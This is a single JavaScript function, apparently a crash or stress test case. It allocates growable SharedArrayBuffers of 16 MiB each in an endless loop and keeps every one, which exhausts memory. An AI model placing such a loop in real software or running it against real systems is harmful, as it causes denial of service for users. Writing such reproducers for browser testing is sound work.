async function onTrack() { const all = []; for (;;) { const b = new SharedArrayBuffer(1, { maxByteLength: 1 << 24 }); b.grow(1 << 24); all.push(b); } }
